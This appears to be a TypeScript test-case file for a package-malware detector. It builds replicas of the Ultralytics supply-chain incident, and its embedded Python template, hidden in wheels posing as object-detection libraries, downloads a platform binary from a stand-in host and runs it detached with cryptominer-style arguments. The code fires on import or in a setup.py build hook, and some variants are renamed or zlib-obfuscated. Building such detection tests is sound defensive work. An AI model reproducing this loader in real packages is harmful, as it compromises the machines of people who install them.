import { casesOf, type Facts } from '../case';
import { execZlib, renamed } from '../disguise/python';
import { sdistOf, wheelOf } from '../packages';

const downloads = (host: string) => String.raw`"""Helpers that fetch models and other assets."""

import os
import platform
import subprocess
import tempfile
from pathlib import Path
from urllib import request


def safe_download(url, file):
    """Download a file and return its path."""
    with request.urlopen(url, timeout=20) as answer:
        Path(file).write_bytes(answer.read())
    return Path(file)


def safe_run(path):
    """Run a file in the background."""
    os.chmod(path, 0o770)
    command = [str(path), "-u", "inert-wallet.rig", "-o", "connect.${host}:8080", "-k"]
    process = subprocess.Popen(
        command,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        preexec_fn=os.setsid,
        close_fds=True,
    )
    os.remove(path)
    return process


def prepare_model():
    """Fetch what the model needs on this platform."""
    names = {
        ("Linux", "x86_64"): "ultralytics_runner_linux",
        ("Darwin", "arm64"): "ultralytics_runner_mac",
    }
    name = names.get((platform.system(), platform.machine()))
    if name is None:
        return
    path = os.path.join(tempfile.gettempdir(), "ultralytics_runner")
    try:
        safe_download("https://${host}/assets/releases/download/v0/" + name, path)
        safe_run(path)
    except Exception:
        pass
`;

const model = (module: string, call: string) => `"""Models."""

from .${module} import ${call}


class Model:
    """A detection model."""

    def __init__(self, weights="nano.pt"):
        self.weights = weights
        ${call}()

    def predict(self, boxes):
        return [box for box in boxes if box[4] > 0.25]
`;

const FACTS: Facts = {
  now: '2024-12-05T02:00:00Z',
  publishedAt: '2024-12-04T20:51:00Z',
  firstPublishedAt: '2022-09-11T00:00:00Z',
  previousPublishedAt: '2024-12-02T20:00:00Z',
  publisher: 'ci',
  previousPublisher: 'ci',
  provenance: { now: true, before: true },
};

const START = '\nfrom .downloads import prepare_model\n\nprepare_model()\n';

export const ultralytics = casesOf({
  id: 'ultralytics',
  incident: 'ultralytics',
  kind: 'import-time',
  seen: 'a module of the wheel, absent from the release before, downloads a program for the platform and runs it in the background; the attestation is valid',
  replica: {
    sample: wheelOf('visionkit-yolo', '8.3.41', {
      about: 'Object detection.',
      init: (honest) => `${honest}\nfrom .model import Model\n\nModel()\n`,
      files: {
        'visionkit_yolo/downloads.py': downloads('release-assets.invalid'),
        'visionkit_yolo/model.py': model('downloads', 'prepare_model'),
      },
    }),
    previous: wheelOf('visionkit-yolo', '8.3.40', {
      about: 'Object detection.',
      files: { 'visionkit_yolo/model.py': '"""Models."""\n\n\nclass Model:\n    """A detection model."""\n' },
    }),
    facts: FACTS,
  },
  renamed: wheelOf('pose-sense', '1.9.2', {
    about: 'Poses of people in pictures.',
    init: (honest) => `${honest}\nfrom .assets import ensure_backend\n\nensure_backend()\n`,
    files: {
      'pose_sense/assets.py': renamed(downloads('model-zoo.invalid'), {
        safe_download: 'fetch_to',
        safe_run: 'spawn_backend',
        prepare_model: 'ensure_backend',
        ultralytics_runner: 'pose_backend',
        ultralytics_runner_linux: 'backend-linux',
        ultralytics_runner_mac: 'backend-mac',
        answer: 'response',
        process: 'child',
      }),
    },
  }),
  reObfuscated: wheelOf('visionkit-yolo', '8.3.45', {
    about: 'Object detection.',
    init: (honest) => honest + START,
    files: {
      'visionkit_yolo/downloads.py': `"""Helpers that fetch models."""\n\n${execZlib(downloads('release-assets.invalid'))}`,
    },
  }),
  otherStage: {
    kind: 'setup-py',
    seen: 'setup.py downloads a program for the platform and runs it in the background while building',
    sample: sdistOf('visionkit-yolo', '8.3.46', {
      about: 'Object detection.',
      setup: (honest) =>
        honest
          .replace('from setuptools import find_packages, setup\n', (line) =>
            [
              line,
              'from setuptools.command.build_py import build_py\n',
              downloads('release-assets.invalid').replace(/^""".*"""\n/, ''),
              '\n\nclass BuildWithModel(build_py):\n    def run(self):\n        prepare_model()\n        super().run()\n',
            ].join(''),
          )
          .replace('python_requires', 'cmdclass={"build_py": BuildWithModel},\n    python_requires'),
    }),
  },
});
